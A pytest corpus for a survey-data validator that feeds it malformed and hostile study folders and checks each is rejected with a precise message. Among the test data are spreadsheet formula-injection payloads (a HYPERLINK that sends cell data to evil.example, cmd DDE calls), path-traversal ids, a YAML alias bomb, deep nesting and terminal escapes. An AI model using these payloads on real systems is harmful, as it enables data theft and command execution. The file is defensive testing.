"""A corpus of malformed, hostile and awkward-but-legitimate study folders (issue 11).

Each case builds a study folder, runs it through :func:`run_validate` in-process, and checks
the exit status (2 for input errors, 0 for inputs that are legitimately handled), that no
traceback is printed, that the expected one-line message (file, row, column, value)
appears, and that no output line holds characters a terminal would act on (controls, line
separators, bidi overrides) or a line of ``/etc/passwd``. An input that passes is then
prepared: per agency and wave ``received = analysed + excluded`` with the reason columns
summing to the excluded rows, and the CSV files ``prepare`` writes hold no cell a
spreadsheet would run as a formula.

A handful of cases also go through ``python -m analysis validate --data DIR`` as a
subprocess, the way users and the Makefile call it; the most hostile ones through
``prepare`` (exit 2, one line per problem, bounded time), and an agency id that climbs out of
the reports folder through ``build``.
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from study_builder import (
    AGENCIES,
    BASELINE,
    DELETE,
    FOLLOWUP,
    RESPONSE_COLUMNS,
    csv_text,
    default_study,
    make_study,
    sav_frame,
    sav_study,
    spss_study,
    study_yaml,
    with_cell,
    xlsx_bytes,
)

import analysis.validate
from analysis import config
from analysis.prepare import prepare_study, write_prepared
from analysis.validate import run_validate

SCALE_EXPECTED = (
    'expected a scale code 1-5, an N/A code (9), a label of scale.labels (e.g. "Strongly '
    'disagree"), or blank'
)


@dataclass(frozen=True)
class Case:
    """A study folder builder, the exit status it must give, and lines its output must hold."""

    name: str
    build: Callable[[Path], Path]
    status: int
    #: Each a fragment some output line holds, or a tuple of fragments one line holds together.
    expected: tuple[str | tuple[str, ...], ...] = ()
    #: Number of problems in the summary, where one broken thing must give one problem only.
    count: int | None = None
    #: Inputs the issue lets a reader either read or name precisely (UTF-16/32 without a BOM):
    #: exit 2 with a line holding this fragment is accepted instead of ``status``.
    or_named: str | tuple[str, ...] | None = None
    #: For inputs that pass: the rows received in all, where a reader could lose or invent rows.
    received: int | None = None
    #: For inputs that pass: text processed/excluded.csv must hold (so that the checks on its
    #: cells are not vacuous).
    in_excluded: tuple[str, ...] = ()
    #: For inputs that pass: text no CSV written by prepare may hold (personal data).
    not_in_outputs: tuple[str, ...] = ()
    #: Environment variables set while the case runs (the size limit per input file).
    env: tuple[tuple[str, str], ...] = ()


def _csv_bytes(rows, encoding="utf-8", newline="\n", delimiter=",") -> bytes:
    return csv_text(rows, delimiter=delimiter).replace("\n", newline).encode(encoding)


def _baseline_bytes(data: bytes) -> Callable[[Path], Path]:
    return lambda tmp: make_study(tmp, files={"surveys/baseline.csv": data})


def _baseline_rows(rows) -> Callable[[Path], Path]:
    return lambda tmp: make_study(tmp, baseline=rows)


def _study(**updates) -> Callable[[Path], Path]:
    return lambda tmp: make_study(tmp, study=updates)


def _study_text(old: str, new: str) -> Callable[[Path], Path]:
    def build(tmp: Path) -> Path:
        root = make_study(tmp)
        text = (root / "study.yml").read_text(encoding="utf-8")
        assert old in text
        (root / "study.yml").write_text(text.replace(old, new, 1), encoding="utf-8")
        return root

    return build


def _agencies(rows=None, text=None) -> Callable[[Path], Path]:
    content = text if text is not None else csv_text(rows)
    return lambda tmp: make_study(tmp, files={"agencies.csv": content})


def _without(column: str):
    return [{k: v for k, v in r.items() if k != column} for r in BASELINE]


def _xlsx_study(data: bytes) -> Callable[[Path], Path]:
    return lambda tmp: make_study(
        tmp,
        study={"waves": {"baseline": {"files": ["surveys/baseline.xlsx"]}}},
        files={"surveys/baseline.xlsx": data},
        remove=["surveys/baseline.csv"],
    )


def _latin1_rows():
    rows = [dict(r, gender="Male" if r["gender"] == "ذكر" else r["gender"]) for r in BASELINE]
    return with_cell(rows, 1, comment="Señora Müller")


def _three_waves(tmp: Path) -> Path:
    third = {"label": {"en": "Later", "ar": "لاحقاً"}, "files": ["surveys/followup.csv"]}
    return make_study(tmp, study={"waves": {"later": third}})


def _random_bytes(n: int = 4096) -> bytes:
    state, out = 12345, bytearray()
    for _ in range(n):  # a fixed linear congruential stream: the same "random" file every run
        state = (1103515245 * state + 12345) % 2**31
        out.append(state >> 23)
    return bytes(out)


# --- builders of hostile folders --------------------------------------------------------------


def _study_texts(*replacements: tuple[str, str]) -> Callable[[Path], Path]:
    """The default study with several first-occurrence text replacements in study.yml."""

    def build(tmp: Path) -> Path:
        root = make_study(tmp)
        text = (root / "study.yml").read_text(encoding="utf-8")
        for old, new in replacements:
            assert old in text, old
            text = text.replace(old, new, 1)
        (root / "study.yml").write_text(text, encoding="utf-8")
        return root

    return build


def _study_appended(extra: str) -> Callable[[Path], Path]:
    """The default study with ``extra`` appended to study.yml (e.g. an unknown top-level key)."""
    return _study_text("outcome: SAT\n", "outcome: SAT\n" + extra + "\n")


def _alias_bomb() -> str:
    """The 'billion laughs' in about 1 KB: nine levels of nine aliases expand to 9**9 strings."""
    lines = ['lol0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, 10):
        refs = ", ".join([f"*l{level - 1}"] * 9)
        lines.append(f"lol{level}: &l{level} [{refs}]")
    return "\n".join(lines)


def _with_agency(rows, old: str, new: str):
    return [dict(r, agency_id=new if r["agency_id"] == old else r["agency_id"]) for r in rows]


def _agency_id(agency_id: str, responses_id: str | None = None) -> Callable[[Path], Path]:
    """The default study with agency A01 renamed ``agency_id`` in agencies.csv, and
    ``responses_id`` (default the same) in both response files."""
    in_responses = agency_id if responses_id is None else responses_id
    return lambda tmp: make_study(
        tmp,
        agencies=[dict(AGENCIES[0], agency_id=agency_id), AGENCIES[1]],
        baseline=_with_agency(BASELINE, "A01", in_responses),
        followup=_with_agency(FOLLOWUP, "A01", in_responses),
    )


def _bad_agency_id(name: str, agency_id: str, shown: str | None = None) -> Case:
    """An agency id that must be refused on its row of agencies.csv, and only there (the
    responses use the same id, so nothing else is wrong)."""
    # The quoted start of the value as a problem line shows it (JSON escapes, cut short).
    shown = shown or json.dumps(agency_id, ensure_ascii=False)[:21]
    return Case(
        f"agency_id_{name}",
        _agency_id(agency_id),
        2,
        (("agencies.csv:2:agency_id: " + shown, "expected an id of letters"),),
        count=1,
    )


def _remove(path: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    elif path.exists() or path.is_symlink():
        path.unlink()


def _linked(relative: str, target: str | Callable[[Path], Path]) -> Callable[[Path], Path]:
    """The default study with ``relative`` replaced by a symbolic link to ``target``: a path,
    or a function of the study folder returning one (it may move the original there first)."""

    def build(tmp: Path) -> Path:
        root = make_study(tmp)
        destination = target(root) if callable(target) else Path(target)
        _remove(root / relative)
        (root / relative).symlink_to(destination)
        return root

    return build


def _moved_outside(relative: str) -> Callable[[Path], Path]:
    """Move ``relative`` out of the study folder (next to it); the new place."""

    def move(root: Path) -> Path:
        outside = root.parent / "elsewhere" / relative
        outside.parent.mkdir(parents=True, exist_ok=True)
        shutil.move(root / relative, outside)
        return outside

    return move


def _moved_inside(relative: str, new: str) -> Callable[[Path], Path]:
    """Move ``relative`` to ``new`` inside the study folder; a relative link target to it."""

    def move(root: Path) -> Path:
        (root / new).parent.mkdir(parents=True, exist_ok=True)
        shutil.move(root / relative, root / new)
        return Path(os.path.relpath(root / new, (root / relative).parent))

    return move


def _fifo(relative: str) -> Callable[[Path], Path]:
    def build(tmp: Path) -> Path:
        root = make_study(tmp)
        _remove(root / relative)
        os.mkfifo(root / relative)  # reading it would block for ever: it must not be opened
        return root

    return build


def _folder(relative: str) -> Callable[[Path], Path]:
    def build(tmp: Path) -> Path:
        root = make_study(tmp)
        _remove(root / relative)
        (root / relative).mkdir()
        return root

    return build


def _a_file_as_study_folder(tmp: Path) -> Path:
    (tmp / "study.zip").write_bytes(b"PK\x03\x04")
    return tmp / "study.zip"


def _linked_study_folder(tmp: Path) -> Path:
    real = make_study(tmp / "real")
    (tmp / "link").symlink_to(real, target_is_directory=True)
    return tmp / "link"


def _outside_file_listed(tmp: Path) -> Path:
    # The file exists and is valid: the path is refused for where it is, not for what it holds.
    (tmp / "outside.csv").write_text(csv_text(BASELINE), encoding="utf-8")
    return make_study(tmp, study={"waves": {"baseline": {"files": ["../outside.csv"]}}})


def _interventions(content: str | bytes) -> Callable[[Path], Path]:
    return lambda tmp: make_study(tmp, files={"interventions.csv": content})


#: The default study's rated items in the SPSS file, and their Arabic value labels, N/A included.
SAV_ITEMS = ("q1", "q2", "q3", "q4", "sat")
ARABIC_SCALE = {
    1.0: "لا أوافق بشدة",
    2.0: "لا أوافق",
    3.0: "محايد",
    4.0: "أوافق",
    5.0: "أوافق بشدة",
}
ARABIC_SCALE[9.0] = "لا ينطبق"

#: The environment variable of the size limit per input file, in MiB (issue 11, Deliver).
SIZE_LIMIT = "ANALYSIS_MAX_FILE_MB"

INTERVENTIONS_HEADER = "agency_id,date,activity,staff_trained,hours\n"


def _baseline_lines(encode: Callable[[int, str], bytes], rows=None) -> Callable[[Path], Path]:
    """surveys/baseline.csv with each line (0 = header) encoded by ``encode(index, line)``."""
    lines = csv_text(BASELINE if rows is None else rows).splitlines(keepends=True)
    data = b"".join(encode(i, line) for i, line in enumerate(lines))
    return _baseline_bytes(data)


def _renamed(rows, old: str, new: str):
    return [{(new if k == old else k): v for k, v in r.items()} for r in rows]


def _nfd_headers(tmp: Path) -> Path:
    # study.yml names the column in NFC (as typed); the export wrote the decomposed form.
    nfc = "رأي_1"
    nfd = unicodedata.normalize("NFD", nfc)
    assert nfd != nfc
    return make_study(
        tmp,
        study={"items": {"REQ": {"column": nfc}}},
        baseline=_renamed(BASELINE, "q1", nfd),
        followup=_renamed(FOLLOWUP, "q1", nfd),
    )


def _q01_and_Q01(tmp: Path) -> Path:
    baseline = [dict(r, Q01="5") for r in _renamed(BASELINE, "q1", "q01")]
    return make_study(
        tmp,
        study={"items": {"REQ": {"column": "q01"}}},
        baseline=baseline,
        followup=_renamed(FOLLOWUP, "q1", "q01"),
    )


FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C notepad'!A0",
)


def _formula_cells(tmp: Path) -> Path:
    """Formula-looking respondent ids and comments on rows the quality rules exclude, so that
    they reach excluded.csv: a duplicate id, an empty answer sheet and a speeder."""
    blank_items = {"q1": "", "q2": "", "q3": "", "q4": "", "sat": ""}
    rows = with_cell(BASELINE, 0, response_id=FORMULAS[0], comment=FORMULAS[0])
    rows = with_cell(rows, 1, response_id=FORMULAS[0], comment=FORMULAS[1])  # duplicate id
    rows = with_cell(rows, 2, response_id=FORMULAS[2], comment=FORMULAS[3], **blank_items)
    rows = with_cell(rows, 4, response_id=FORMULAS[3], comment="\t=1+1", duration_s=10)
    return make_study(tmp, baseline=rows)


PERSONAL = ("0551234567", "ali@example.com", "1012345678")


def _personal_data_in_excluded_comments(tmp: Path) -> Path:
    rows = with_cell(BASELINE, 1, response_id="b1", comment=f"call me on {PERSONAL[0]}")
    rows = with_cell(rows, 4, duration_s=10, comment=f"{PERSONAL[1]}, id {PERSONAL[2]}")
    return make_study(tmp, baseline=rows)


def _listed_twice_by_another_spelling(tmp: Path) -> Path:
    # Without a wave column one file may not serve both waves; "./" must not hide that.
    return make_study(tmp, study={"waves": {"followup": {"files": ["surveys/./baseline.csv"]}}})


def _xlsx_rows(rows) -> Callable[[Path], Path]:
    return _xlsx_study(xlsx_bytes(rows))


def _wide_file(tmp: Path) -> Path:
    extra = {f"x{i}": "" for i in range(10_000)}
    return make_study(tmp, baseline=[dict(r, **extra) for r in BASELINE])


CASES = [
    # --- encodings, line endings, delimiters: handled ---------------------------------------
    Case(
        "cp1256_handled",
        _baseline_bytes(_csv_bytes(BASELINE, "cp1256")),
        0,
        ("warning: surveys/baseline.csv: not UTF-8; read as Arabic Windows-1256",),
    ),
    Case("utf8_bom_handled", _baseline_bytes(_csv_bytes(BASELINE, "utf-8-sig")), 0),
    Case(
        "utf16_tab_text_handled", _baseline_bytes(_csv_bytes(BASELINE, "utf-16", delimiter="\t")), 0
    ),
    Case("crlf_handled", _baseline_bytes(_csv_bytes(BASELINE, newline="\r\n")), 0),
    Case("lone_cr_handled", _baseline_bytes(_csv_bytes(BASELINE, newline="\r")), 0),
    Case("semicolon_handled", _baseline_bytes(_csv_bytes(BASELINE, delimiter=";")), 0),
    Case("tab_handled", _baseline_bytes(_csv_bytes(BASELINE, delimiter="\t")), 0),
    Case(
        "latin1_garbage",
        _baseline_bytes(_csv_bytes(_latin1_rows(), "latin-1")),
        2,
        ('surveys/baseline.csv:3: "Se', "expected UTF-8 or Arabic Windows-1256 text"),
    ),
    Case(
        "binary_renamed_csv",
        _baseline_bytes(b"PK\x03\x04\x00\x00" + _random_bytes(200)),
        2,
        ("surveys/baseline.csv: expected a text (CSV) file: this one is binary",),
    ),
    # --- values that are legitimately handled -----------------------------------------------
    Case(
        "arabic_indic_digits_handled",
        _baseline_rows(with_cell(BASELINE, 0, q1="٤", q2="۳", nps="١٠", duration_s="٣٠٠")),
        0,
    ),
    Case(
        "label_text_with_trailing_spaces_handled",
        _baseline_rows(with_cell(BASELINE, 0, q1="Agree  ", q2=" strongly AGREE", q3="أوافق ")),
        0,
    ),
    Case(
        "decimal_code_4_0_handled", _baseline_rows(with_cell(BASELINE, 0, q1="4.0", sat="5.0")), 0
    ),
    Case(
        "excel_serial_date_handled",
        _baseline_rows(with_cell(BASELINE, 0, date="45663")),
        0,
    ),
    Case("spss_with_labels_handled", lambda tmp: sav_study(tmp, labelled=True), 0),
    Case("spss_codes_without_labels_handled", lambda tmp: sav_study(tmp, labelled=False), 0),
    # --- responses: columns -----------------------------------------------------------------
    Case(
        "missing_column",
        _baseline_rows(_without("q3")),
        2,
        ("surveys/baseline.csv:1:q3: expected a column 'q3' (items.COURT.column in study.yml)",),
        count=1,
    ),
    Case(
        "duplicated_column",
        _baseline_bytes(csv_text(BASELINE, RESPONSE_COLUMNS + ["q1"]).encode("utf-8")),
        2,
        ("surveys/baseline.csv:1:q1: expected each column header once: it is in columns F and M",),
    ),
    Case(
        "row_with_extra_values",
        _baseline_bytes(_csv_bytes(BASELINE) + b"b7,A01,2025-01-12,300,,4,4,4,4,4,8,1,surplus\n"),
        2,
        ('surveys/baseline.csv:8: "surplus": expected at most 12 values',),
    ),
    # --- responses: item values -------------------------------------------------------------
    Case(
        "six_on_a_1_to_5_scale",
        _baseline_rows(with_cell(BASELINE, 0, q1="6")),
        2,
        (f'surveys/baseline.csv:2:q1: "6": {SCALE_EXPECTED}',),
    ),
    Case(
        "zero_on_the_scale",
        _baseline_rows(with_cell(BASELINE, 2, q4="0")),
        2,
        (f'surveys/baseline.csv:4:q4: "0": {SCALE_EXPECTED}',),
    ),
    Case(
        "seven_and_a_half",
        _baseline_rows(with_cell(BASELINE, 1, sat="7.5")),
        2,
        (f'surveys/baseline.csv:3:sat: "7.5": {SCALE_EXPECTED}',),
    ),
    Case(
        "label_not_in_codebook",
        _baseline_rows(with_cell(BASELINE, 3, q2="Very good")),
        2,
        (f'surveys/baseline.csv:5:q2: "Very good": {SCALE_EXPECTED}',),
    ),
    Case(
        "recommend_11",
        _baseline_rows(with_cell(BASELINE, 4, nps="11")),
        2,
        ('surveys/baseline.csv:6:nps: "11": expected a whole number 0-10, or blank',),
    ),
    Case(
        "segment_value_unknown",
        _baseline_rows(with_cell(BASELINE, 5, gender="unknown")),
        2,
        ('surveys/baseline.csv:7:gender: "unknown": expected a value listed under segments',),
    ),
    Case(
        "bad_date",
        _baseline_rows(with_cell(BASELINE, 0, date="2025-02-30")),
        2,
        ('surveys/baseline.csv:2:date: "2025-02-30": expected a date as YYYY-MM-DD or DD/MM/YYYY',),
    ),
    Case(
        "duration_as_text",
        _baseline_rows(with_cell(BASELINE, 0, duration_s="five minutes")),
        2,
        ('surveys/baseline.csv:2:duration_s: "five minutes": expected a duration in seconds',),
    ),
    Case(
        "unknown_agency_id",
        _baseline_rows(with_cell(BASELINE, 2, agency_id="A99")),
        2,
        ('surveys/baseline.csv:4:agency_id: "A99": expected an agency_id listed in agencies.csv',),
    ),
    Case(
        "blank_agency_id",
        _baseline_rows(with_cell(BASELINE, 2, agency_id="")),
        2,
        ('surveys/baseline.csv:4:agency_id: "": expected an agency id (it is blank)',),
    ),
    Case(
        "blank_respondent_id",
        _baseline_rows(with_cell(BASELINE, 0, response_id="")),
        2,
        ('surveys/baseline.csv:2:response_id: "": expected a respondent id (it is blank)',),
    ),
    # --- responses: files -------------------------------------------------------------------
    Case(
        "empty_file_0_bytes",
        _baseline_bytes(b""),
        2,
        ("surveys/baseline.csv: expected a header row and data rows: the file is empty",),
    ),
    Case(
        "header_only_file",
        _baseline_bytes(_csv_bytes(BASELINE).split(b"\n", 1)[0] + b"\n"),
        2,
        (
            "surveys/baseline.csv:2: expected data rows under the header: the file has a header only",
        ),
    ),
    Case(
        "missing_responses_file",
        lambda tmp: make_study(tmp, remove=["surveys/followup.csv"]),
        2,
        ("surveys/followup.csv: expected an existing file: it is missing",),
    ),
    Case(
        "corrupt_xlsx_random_bytes",
        _xlsx_study(_random_bytes()),
        2,
        ("surveys/baseline.xlsx: expected a readable file (not a valid .xlsx workbook",),
    ),
    Case(
        "corrupt_sav",
        lambda tmp: make_study(
            tmp,
            study={"waves": {"followup": {"files": ["surveys/followup.sav"]}}},
            files={"surveys/followup.sav": b"$FL2@(#) " + _random_bytes(300)},
        ),
        2,
        ("surveys/followup.sav: expected a readable file (not a valid SPSS .sav file",),
    ),
    Case(
        "old_xls_format",
        lambda tmp: make_study(
            tmp,
            study={"waves": {"followup": {"files": ["surveys/followup.xls"]}}},
            files={"surveys/followup.xls": _random_bytes(100)},
        ),
        2,
        ("surveys/followup.xls: expected a .csv, .xlsx or .sav file, not '.xls'",),
    ),
    # --- study.yml --------------------------------------------------------------------------
    Case(
        "missing_study_yml",
        lambda tmp: make_study(tmp, remove=["study.yml"]),
        2,
        ("study.yml: expected a study.yml file in ",),
        count=1,
    ),
    Case(
        "broken_yaml_syntax",
        _study_text("outcome: SAT", "outcome: [SAT"),
        2,
        ("expected valid YAML (while parsing a flow sequence",),
    ),
    Case(
        "yaml_tab_indentation",
        _study_text("  respondent: response_id", "\trespondent: response_id"),
        2,
        ("expected valid YAML",),
    ),
    Case(
        "empty_study_yml",
        lambda tmp: make_study(tmp, files={"study.yml": ""}),
        2,
        ("study.yml:1: expected a mapping of keys",),
    ),
    Case(
        "non_utf8_study_yml",
        lambda tmp: make_study(
            tmp,
            files={
                "study.yml": (make_study(tmp, name="src") / "study.yml")
                .read_text("utf-8")
                .encode("cp1256")
            },
        ),
        2,
        ("study.yml:3: expected UTF-8 text",),
    ),
    Case(
        "study_yml_unknown_key",
        _study(treshold={"min_report_n": 5}),
        2,
        (":treshold: expected a known key, not 'treshold' (did you mean 'thresholds'?)",),
    ),
    Case(
        "study_yml_duplicate_key",
        _study_text("outcome: SAT", "outcome: SAT\noutcome: REQ"),
        2,
        (":outcome: expected each key once (first on line",),
    ),
    Case(
        "item_in_two_dimensions",
        _study(dimensions={"DURING": {"items": ["COURT", "SPEED", "REQ"]}}),
        2,
        (
            ':dimensions.DURING.items[2]: "REQ": expected each item in at most one dimension (it is also in BEFORE)',
        ),
    ),
    Case(
        "dimension_names_missing_item",
        _study(dimensions={"BEFORE": {"items": ["REQ", "WAIT"]}}),
        2,
        (':dimensions.BEFORE.items[1]: "WAIT": expected an item code of study.yml items',),
    ),
    Case(
        "outcome_not_an_item",
        _study(outcome="BEFORE"),
        2,
        (':outcome: "BEFORE": expected an item code (REQ, INFO, COURT, SPEED, SAT)',),
    ),
    Case(
        "three_waves",
        _three_waves,
        2,
        (
            ":waves: expected exactly two waves, the baseline first and then the follow-up (found 3)",
        ),
    ),
    Case(
        "one_wave",
        _study(waves={"followup": DELETE}),
        2,
        (":waves: expected exactly two waves",),
    ),
    Case(
        "label_missing_a_language",
        _study(title={"en": "Only English", "ar": DELETE}),
        2,
        (":title: expected a 'ar' text (every label needs each study language)",),
    ),
    Case(
        "two_items_one_raw_column",
        _study(items={"SPEED": {"column": "q3"}}),
        2,
        (
            ':items.SPEED.column: "q3": expected a raw column of this item only (item COURT reads it too)',
        ),
    ),
    Case(
        "item_code_clashes_with_standard_column",
        _study(items={"date": {"column": "q9", "text": {"en": "x", "ar": "س"}}}),
        2,
        (
            ":items.date: \"date\": expected an item code that differs from the standard column 'date'",
        ),
    ),
    Case(
        "scale_na_inside_range",
        _study(scale={"not_applicable": [3]}),
        2,
        (':scale.not_applicable[0]: "3": expected an N/A code outside the scale 1-5',),
    ),
    # --- agencies.csv -----------------------------------------------------------------------
    Case(
        "duplicate_agency_id",
        _agencies(AGENCIES + [dict(AGENCIES[1], name_en="Again")]),
        2,
        ('agencies.csv:4:agency_id: "A02": expected each agency_id once (also on row 3)',),
    ),
    Case(
        "agencies_missing_column",
        _agencies([{k: v for k, v in a.items() if k != "name_ar"} for a in AGENCIES]),
        2,
        ("agencies.csv:1:name_ar: expected a column 'name_ar'",),
    ),
    Case(
        "bad_group_value",
        _agencies([AGENCIES[0], dict(AGENCIES[1], group="control")]),
        2,
        ('agencies.csv:3:group: "control": expected programme or comparison',),
    ),
    Case(
        "non_integer_frontline_staff",
        _agencies([dict(AGENCIES[0], frontline_staff="about 20"), AGENCIES[1]]),
        2,
        (
            'agencies.csv:2:frontline_staff: "about 20": expected a whole number of 0 or more, or blank',
        ),
    ),
    Case(
        "agencies_empty",
        _agencies(text=""),
        2,
        ("agencies.csv: expected a header row and data rows: the file is empty",),
        count=1,
    ),
    Case(
        "agency_ids_without_leading_zeros_handled",
        lambda tmp: make_study(
            tmp,
            agencies=[dict(AGENCIES[0], agency_id="001"), dict(AGENCIES[1], agency_id="002")],
            baseline=[dict(r, agency_id="1" if r["agency_id"] == "A01" else "2") for r in BASELINE],
            followup=[
                dict(r, agency_id="001" if r["agency_id"] == "A01" else "002") for r in FOLLOWUP
            ],
        ),
        0,
    ),
    # --- the folder and interventions -------------------------------------------------------
    Case(
        "missing_study_folder",
        lambda tmp: tmp / "no-such-study",
        2,
        ("no-such-study: expected an existing study folder",),
    ),
    Case(
        "interventions_bad_values",
        lambda tmp: make_study(
            tmp,
            files={
                "interventions.csv": "agency_id,date,activity,staff_trained,hours\n"
                "A01,2025-03-01,Training,twelve,2\n"
            },
        ),
        2,
        ('interventions.csv:2:staff_trained: "twelve": expected a whole number of 0 or more',),
    ),
    Case(
        "interventions_blank_activity",
        lambda tmp: make_study(
            tmp,
            files={
                "interventions.csv": "agency_id,date,activity,staff_trained,hours\n"
                "A01,2025-03-01,Training,12,2\n"
                "A02,2025-03-02,,3,1\n"
            },
        ),
        2,
        ('interventions.csv:3:activity: "": expected the name of the activity',),
        count=1,
    ),
    # --- SPSS (issue 11, items 1-2: read by codes, labels checked) ---------------------------
    Case(
        "spss_labelled_na_code_handled",
        lambda tmp: spss_study(
            tmp,
            sav_frame(q2=[9.0, 2.0, 9.0], q3=[4.0, 9.0, 4.0]),
            labels={**{c: ARABIC_SCALE for c in SAV_ITEMS}, "gender": {1.0: "ذكر", 2.0: "أنثى"}},
        ),
        0,
        received=9,
    ),
    Case(
        "spss_user_missing_codes_handled",
        lambda tmp: spss_study(
            tmp,
            sav_frame(q2=[5.0, 99.0, 3.0]),
            labels={"q2": {5.0: "Strongly agree", 99.0: "Refused"}},
            missing_ranges={"q2": [99.0]},
        ),
        0,
        (("warning: surveys/baseline.sav", "q2", "user-missing"),),
        received=9,
    ),
    Case(
        "spss_user_missing_range_handled",
        lambda tmp: spss_study(
            tmp,
            sav_frame(q3=[97.0, 4.0, 98.0]),
            missing_ranges={"q3": [{"lo": 97.0, "hi": 99.0}]},
        ),
        0,
        (("warning: surveys/baseline.sav", "q3", "user-missing"),),
        received=9,
    ),
    Case(
        "spss_two_codes_share_a_label",
        lambda tmp: spss_study(
            tmp, sav_frame(q1=[4.0, 5.0, 5.0]), labels={"q1": {4.0: "Agree", 5.0: "Agree"}}
        ),
        2,
        (("surveys/baseline.sav:1:q1:", "codes 4 and 5"),),
        count=1,
    ),
    Case(
        "spss_reversed_coding",
        lambda tmp: spss_study(
            tmp, labels={"q1": {1.0: "Strongly agree", 5.0: "Strongly disagree"}}
        ),
        2,
        (("surveys/baseline.sav:1:q1:", "reversed"),),
    ),
    Case(
        "spss_segment_codes_with_text_only_mapping_handled",
        lambda tmp: spss_study(
            tmp,
            labels={"gender": {1.0: "Male", 2.0: "Female"}},
            study={
                "segments": {
                    "gender": {"values": {"male": ["Male", "ذكر"], "female": ["Female", "أنثى"]}}
                }
            },
            followup=[dict(r, gender={"1": "Male", "2": "أنثى"}[r["gender"]]) for r in FOLLOWUP],
        ),
        0,
        received=9,
    ),
    Case(
        "spss_items_stored_as_label_text_handled",
        lambda tmp: spss_study(tmp, sav_frame(q1=["Strongly disagree", "أوافق", "Not applicable"])),
        0,
        received=9,
    ),
    Case(
        "spss_out_of_scale_code_named_by_row",
        lambda tmp: spss_study(tmp, sav_frame(q2=[5.0, 7.0, 3.0])),
        2,
        (f'surveys/baseline.sav:3:q2: "7": {SCALE_EXPECTED}',),
        count=1,
    ),
    Case(
        "spss_unlisted_segment_code",
        lambda tmp: spss_study(
            tmp, sav_frame(gender=[1.0, 2.0, 3.0]), labels={"gender": {1.0: "Male", 2.0: "Female"}}
        ),
        2,
        ('surveys/baseline.sav:4:gender: "3": expected a value listed under segments',),
    ),
    Case(
        "spss_file_that_is_really_a_csv",
        lambda tmp: make_study(
            tmp,
            study={"waves": {"baseline": {"files": ["surveys/baseline.sav"]}}},
            files={"surveys/baseline.sav": _csv_bytes(BASELINE)},
            remove=["surveys/baseline.csv"],
        ),
        2,
        ("surveys/baseline.sav: expected a readable file (not a valid SPSS .sav file",),
        count=1,
    ),
    # --- agency ids (item 3 and Deliver: a safe character set, unique ignoring case) ---------
    _bad_agency_id("path_traversal", "../../pwned"),
    _bad_agency_id("slash", "a/b"),
    _bad_agency_id("backslash", "a\\b"),
    _bad_agency_id("dotdot", ".."),
    _bad_agency_id("leading_dot", ".hidden"),
    _bad_agency_id("formula_equals", "=1+1"),
    _bad_agency_id("formula_plus", "+1"),
    _bad_agency_id("formula_minus", "-x"),
    _bad_agency_id("formula_at", "@x"),
    _bad_agency_id("tab", "A\t01"),
    _bad_agency_id("bidi_override", "A\u202e10", shown='"A'),
    _bad_agency_id("zero_width_space", "A\u200b01", shown='"A'),
    _bad_agency_id("fullwidth_letters", "\uff21\uff10\uff11"),
    _bad_agency_id("65_characters", "A" * 65),
    Case("agency_id_64_characters_handled", _agency_id("A" * 64), 0, received=12),
    Case("agency_id_arabic_letters_handled", _agency_id("جهة_1"), 0, received=12),
    Case(
        "agency_ids_differ_only_in_case",
        lambda tmp: make_study(
            tmp,
            agencies=[dict(AGENCIES[0], agency_id="H01"), dict(AGENCIES[1], agency_id="h01")],
            baseline=_with_agency(_with_agency(BASELINE, "A01", "H01"), "A02", "h01"),
            followup=_with_agency(_with_agency(FOLLOWUP, "A01", "H01"), "A02", "h01"),
        ),
        2,
        ('agencies.csv:3:agency_id: "h01": expected each agency_id once (also on row 2',),
    ),
    Case(
        "agency_ids_differ_only_in_surrounding_spaces",
        _agencies([AGENCIES[0], AGENCIES[1], dict(AGENCIES[1], agency_id=" A02 ")]),
        2,
        ('agencies.csv:4:agency_id: "A02": expected each agency_id once (also on row 3)',),
    ),
    Case(
        "response_agency_id_in_other_case",
        lambda tmp: make_study(
            tmp,
            agencies=[dict(AGENCIES[0], agency_id="H01"), AGENCIES[1]],
            baseline=with_cell(_with_agency(BASELINE, "A01", "H01"), 0, agency_id="h01"),
            followup=_with_agency(FOLLOWUP, "A01", "H01"),
        ),
        2,
        (('surveys/baseline.csv:2:agency_id: "h01"', "'H01'"),),
        count=1,
    ),
    Case(
        "interventions_agency_id_in_other_case",
        _interventions(INTERVENTIONS_HEADER + "a01,2025-03-01,Training,12,2\n"),
        2,
        (('interventions.csv:2:agency_id: "a01"', "'A01'"),),
        count=1,
    ),
    Case(
        "bidi_override_in_name_ar",
        _agencies([dict(AGENCIES[0], name_ar="\u202eالأحوال المدنية"), AGENCIES[1]]),
        2,
        ("agencies.csv:2:name_ar: ",),
        count=1,
    ),
    Case(
        "bidi_isolate_in_name_en",
        _agencies([AGENCIES[0], dict(AGENCIES[1], name_en="Pass\u2067ports\u2069")]),
        2,
        ("agencies.csv:3:name_en: ",),
        count=1,
    ),
    Case(
        "terminal_escape_in_name_en",
        _agencies([dict(AGENCIES[0], name_en="Civil \x1b[2J\x1b[31mRegistry"), AGENCIES[1]]),
        2,
        ("agencies.csv:2:name_en: ",),
        count=1,
    ),
    # --- study.yml limits (items 5-6: alias bomb, depth, huge numbers, size) -----------------
    Case(
        "yaml_alias_bomb",
        _study_appended(_alias_bomb()),
        2,
        (("study.yml:", "expected no YAML anchors or aliases"),),
        count=1,
    ),
    Case(
        "yaml_anchor_and_alias",
        _study_texts(
            ("title:\n", "title: &title\n"),
            ("    label:\n      en: Baseline\n      ar: القياس القبلي\n", "    label: *title\n"),
        ),
        2,
        ("study.yml:1: expected no YAML anchors or aliases",),
        count=1,
    ),
    Case(
        "yaml_5000_levels_of_lists",
        _study_appended("deep: " + "[" * 5000 + "]" * 5000),
        2,
        ("study.yml:97: expected at most 32 levels of nesting",),
        count=1,
    ),
    Case(
        "yaml_5000_levels_of_mappings",
        _study_appended("deep: " + "{a: " * 5000 + "1" + "}" * 5000),
        2,
        ("study.yml:97: expected at most 32 levels of nesting",),
        count=1,
    ),
    Case(
        "yaml_5000_digit_integer",
        _study_text("  min: 1\n", "  min: " + "1" * 5000 + "\n"),
        2,
        (("study.yml:8: ", "expected a number of at most 30 digits"),),
        count=1,
    ),
